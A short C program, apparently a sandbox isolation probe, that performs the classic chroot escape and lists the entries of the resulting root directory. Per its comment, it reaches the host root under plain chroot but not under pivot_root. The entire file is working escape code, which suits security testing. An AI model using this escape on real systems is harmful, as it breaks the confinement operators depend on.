/*
 * The classic chroot escape (needs CAP_SYS_CHROOT, one of Docker's defaults):
 * chroot into a subdirectory while keeping the cwd outside it, climb with "..",
 * then chroot(".") and list "/". Under plain chroot this reaches the host's root;
 * under pivot_root it stays in the sandbox. Prints the entries of the final "/".
 */
#include <dirent.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

int main(void) {
  mkdir("/tmp/.escape", 0700);
  if (chroot("/tmp/.escape") != 0) { perror("chroot"); return 2; }
  for (int i = 0; i < 64; i++) {
    if (chdir("..") != 0) { perror("chdir"); return 2; }
  }
  if (chroot(".") != 0) { perror("chroot ."); return 2; }
  DIR *dir = opendir("/");
  if (!dir) { perror("opendir"); return 2; }
  struct dirent *entry;
  while ((entry = readdir(dir)) != NULL) printf("%s\n", entry->d_name);
  closedir(dir);
  return 0;
}
